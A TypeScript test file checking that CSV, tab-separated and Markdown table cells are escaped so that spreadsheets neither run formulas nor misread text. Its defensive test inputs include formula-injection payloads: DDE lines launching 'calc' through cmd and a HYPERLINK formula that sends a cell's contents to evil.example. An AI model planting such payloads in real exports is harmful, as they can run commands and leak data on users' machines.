// Cells of tables read back as they were, and nothing in them is run by a spreadsheet or taken for markup.
import { strict as assert } from "node:assert";
import fc from "fast-check";
import {
  escapeCsv,
  escapeCsvText,
  escapeMarkdownCell,
  escapeTabbed,
  withoutGuard,
} from "../../../../src/text/cells/cellEscape.js";
import { isFormula, nasty, readCsv } from "./readCells.js";

describe("a cell of a CSV file", () => {
  it("reads back as it was, but for line breaks and the apostrophes that make it text", () => {
    fc.assert(
      fc.property(fc.array(nasty, { minLength: 1, maxLength: 6 }), (cells) => {
        const [row] = readCsv(`${cells.map(escapeCsv).join(",")}\r\n`);
        const bare = (text: string) =>
          text
            .replace(/\r\n?|[\u2028\u2029]/g, "\n")
            .replaceAll("\0", "")
            .replaceAll("'", "");
        assert.deepEqual(row?.map(bare), cells.map(bare));
      }),
      { numRuns: 500 },
    );
  });

  it("is never a formula, whatever stands before the sign", () => {
    for (const formula of [
      "=1+1",
      "+1+1",
      "-1+1",
      "@SUM(A1)",
      "\t=1",
      "\r=1",
      "\n=1",
      " =1",
      '"=1',
      '""=1',
      "'=1",
      "＝1+1",
      "＋1",
      "－1+1",
      "＠SUM",
      "\ufeff=1",
      "\u200b=1",
      "“=1”",
      "−1+1",
      "=cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!D2",
      '=HYPERLINK("https://evil.example?x="&A1)',
    ]) {
      const [[cell = ""] = []] = readCsv(`${escapeCsv(formula)}\r\n`);
      assert.ok(cell.startsWith("'"), JSON.stringify(cell));
    }
    fc.assert(
      fc.property(nasty, (text) => {
        const [[cell = ""] = []] = readCsv(`${escapeCsv(text)}\r\n`);
        assert.ok(!isFormula(cell), JSON.stringify(cell));
        assert.ok(!/^[\t\r\n]/.test(cell));
      }),
      { numRuns: 1000 },
    );
  });

  it("is none either where a spreadsheet cuts lines at semicolons or tabs", () => {
    fc.assert(
      fc.property(nasty, nasty, (one, two) => {
        const line = `${escapeCsv(one)},${escapeCsv(two)}`;
        for (const piece of line.split(/[;\t\n]|",/)) assert.ok(!isFormula(piece), JSON.stringify(piece));
      }),
      { numRuns: 1000 },
    );
    assert.equal(escapeCsv("quiet; =1+1"), `"quiet; '=1+1"`);
    assert.equal(escapeCsv("first\n-1+1"), `"first\n'-1+1"`);
  });

  it("keeps texts texts in a column of texts, whatever a spreadsheet would make of them", () => {
    const changed = [
      "00123",
      "2024-05",
      "1610521604143693812",
      "0086123",
      "12345678901234567890123456789e12",
      "3E5",
      "1-2",
      "1/2",
      "50%",
    ];
    changed.push(
      "12:30",
      "TRUE",
      "false",
      "5 May",
      "2024年5月",
      "１２３",
      "1.50",
      "$5",
      "(5)",
      "1,234",
      "#N/A",
      "-05",
      ".5",
      " 007",
      "1\u200b2",
    );
    for (const text of changed) assert.equal(escapeCsvText(text), `"'${text}"`);
    const kept = [
      "123",
      "-5",
      "0",
      "1.5",
      "123456789012345",
      "voice 1",
      "26f06524-4f75-4b3a-a853-b649a21aaf66",
      "晓晓",
      "1号店",
      "v2",
      "",
    ];
    for (const text of kept) assert.equal(escapeCsvText(text), `"${text}"`);
    for (const text of ["00123", "3E5", "1610521604143693812"]) assert.equal(escapeCsv(text), `"${text}"`);
  });

  it("loses its apostrophe when it comes back, and no other", () => {
    for (const text of ["00123", "3E5", "2024-05", "=1+1", "+86", "@me", "真", "Voice"])
      assert.equal(withoutGuard(escapeTabbed(text, true)), text);
    for (const text of ["'", "'it is'", "it's", "'Voice"]) assert.equal(withoutGuard(text), text);
  });

  it("leaves numbers numbers", () => {
    for (const number of ["-5", "-0.25", "-1e-7", "42", "-12,345.5", "-3%"]) assert.equal(escapeCsv(number), `"${number}"`);
    assert.equal(escapeCsv("-5-5"), `"'-5-5"`);
    assert.equal(escapeCsv("+86 138"), `"'+86 138"`);
  });
});

describe("a cell of a Markdown table", () => {
  it("is one line without markup, links, HTML or the end of the cell", () => {
    const markup =
      "a|b `c` *d* _e_ <b>f</b> [x](command:evil) ![y](z) https://evil.example www.evil.example a@b.example &lt; $(icon)";
    const cell = escapeMarkdownCell(markup);
    assert.equal(cell.replace(/\\([^\s])/g, "$1"), markup);
    for (const [, before] of cell.matchAll(/(.?)[|`*_<>[\]()!&$]/g)) assert.equal(before, "\\", cell);
    assert.ok(!/https:\/\/|www\.|[^\\]@/.test(cell), cell);
    assert.equal(escapeMarkdownCell("- one\r\n1. two\n"), "\\- one 1. two");
    assert.equal(escapeMarkdownCell("1. one"), "1\\. one");
    fc.assert(
      fc.property(nasty, (text) => {
        const escaped = escapeMarkdownCell(text);
        assert.ok(
          !/[\n\r\t]/.test(escaped) && !/(?<!\\)(?:\\\\)*\|/.test(escaped) && !/(?<!\\)(?:\\\\)*\\$/.test(escaped),
          escaped,
        );
      }),
      { numRuns: 500 },
    );
  });
});
